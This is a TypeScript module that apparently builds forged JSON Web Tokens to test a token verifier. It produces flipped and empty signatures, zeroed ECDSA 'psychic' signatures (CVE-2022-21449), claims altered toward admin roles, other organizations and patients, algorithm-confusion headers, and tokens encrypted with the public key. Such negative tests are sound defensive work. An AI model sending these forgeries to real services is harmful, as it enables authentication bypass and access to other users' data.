import { createPublicKey, type KeyObject } from 'node:crypto';
import { CompactEncrypt } from 'jose';
import { base64url, json, now, type Target, upToDate } from './target.ts';

/** A right token's header and claims, and a signature that is not theirs. */
export function missigned({ rightly, header, claims }: Target, right: string) {
  const body = right.slice(0, right.lastIndexOf('.'));
  const signature = Buffer.from(right.slice(body.length + 1), 'base64url');
  const last = right.at(-1) ?? '';
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const flips = Array.from({ length: 64 }, (_, n) => {
    const flipped = Buffer.from(signature);
    const place = Math.floor((n * flipped.length) / 64);
    flipped[place] = (flipped[place] ?? 0) ^ (1 << (n % 8));
    return [`bit ${n % 8} of byte ${place}`, `${body}.${flipped.toString('base64url')}`];
  });
  const other = rightly(json(header), json({ ...upToDate(claims), jti: 'another' }));
  return Object.fromEntries([
    ...flips,
    // Bits that decoding throws away: another text with the same meaning (RFC 4648 §3.5).
    ...[1, 2, 3].map((bits) => [
      `idle bits ${bits}`,
      `${right.slice(0, -1)}${alphabet[alphabet.indexOf(last) ^ bits]}`,
    ]),
    ['none', `${body}.`],
    ["another token's", `${body}${other.slice(other.lastIndexOf('.'))}`],
    ['zeros', `${body}.${base64url(Buffer.alloc(signature.length))}`],
    ['ones', `${body}.${base64url(Buffer.alloc(signature.length, 255))}`],
    ['reversed', `${body}.${base64url(Buffer.from(signature).reverse())}`],
    ['half', `${body}.${base64url(signature.subarray(0, signature.length / 2))}`],
    ['and more', `${body}.${base64url(Buffer.concat([signature, Buffer.alloc(8)]))}`],
    ['word', `${body}.signature`],
    // CVE-2022-21449: r and s are zero.
    ...[
      ['ES256', 64],
      ['ES384', 96],
      ['ES512', 132],
      ['Ed25519', 64],
    ].map(([alg, length]) => [
      `psychic ${alg}`,
      `${base64url(json({ ...header, alg }))}.${base64url(json(upToDate(claims)))}.${base64url(Buffer.alloc(Number(length)))}`,
    ]),
  ]);
}

/** Other claims, or another header, under a right token's signature. */
export function altered({ header, claims }: Target, right: string) {
  const [, , signature = ''] = right.split('.');
  const wishes: object[] = [
    { role: 'ADMIN' },
    { roles: ['ADMIN'] },
    { realm_access: { roles: ['ADMIN'] } },
    { role: 'SUPER_ADMIN' },
    { org_id: 2 },
    { organization: ['practice-2'] },
    { provider_id: 46 },
    { patient_id: 89 },
    { sub: 'mallory' },
    { email: 'admin@example.com' },
    { exp: now() + 10 * 365 * 86_400 },
    { __proto__: { role: 'ADMIN' } },
  ];
  const headers: object[] = [
    { alg: 'HS512' },
    { alg: 'RS512' },
    { alg: 'PS256' },
    { alg: 'ES256' },
    { alg: 'hs256' },
    { alg: 'rs256' },
    { alg: 'HS1' },
    { kid: 'key-2' },
  ];
  return Object.fromEntries([
    ...wishes.map((wish) => [
      json(wish),
      [json(header), json({ ...upToDate(claims), jti: 'wish', ...wish })]
        .map((part) => base64url(part))
        .concat(signature)
        .join('.'),
    ]),
    ...headers.map((wish) => [
      `header ${json(wish)}`,
      [json({ ...header, ...wish }), json(upToDate(claims))]
        .map((part) => base64url(part))
        .concat(signature)
        .join('.'),
    ]),
  ]);
}

export async function encrypted({ header, claims, publicKey, secret }: Target, right: string) {
  const seal = (alg: string, enc: string, key: KeyObject | Uint8Array, text: string) =>
    new CompactEncrypt(Buffer.from(text))
      .setProtectedHeader({ ...header, alg, enc, cty: 'JWT' })
      .encrypt(key);
  const half = Buffer.from(secret).subarray(0, 32);
  const tokens = {
    'for the public key': await seal(
      'RSA-OAEP',
      'A256GCM',
      createPublicKey(publicKey.export({ type: 'spki', format: 'pem' })),
      right,
    ),
    'for the public key, claims alone': await seal(
      'RSA-OAEP-256',
      'A256GCM',
      publicKey,
      json(upToDate(claims)),
    ),
    'by the secret': await seal('dir', 'A256GCM', half, right),
    'by a key that the secret wraps': await seal('A256KW', 'A256GCM', half, right),
    'by a password': await seal('PBES2-HS256+A128KW', 'A128GCM', Buffer.from(secret), right),
  };
  return Object.entries(tokens).map(([name, token]) => ({
    name: `encrypted: ${name}`,
    authorization: `Bearer ${token}`,
  }));
}
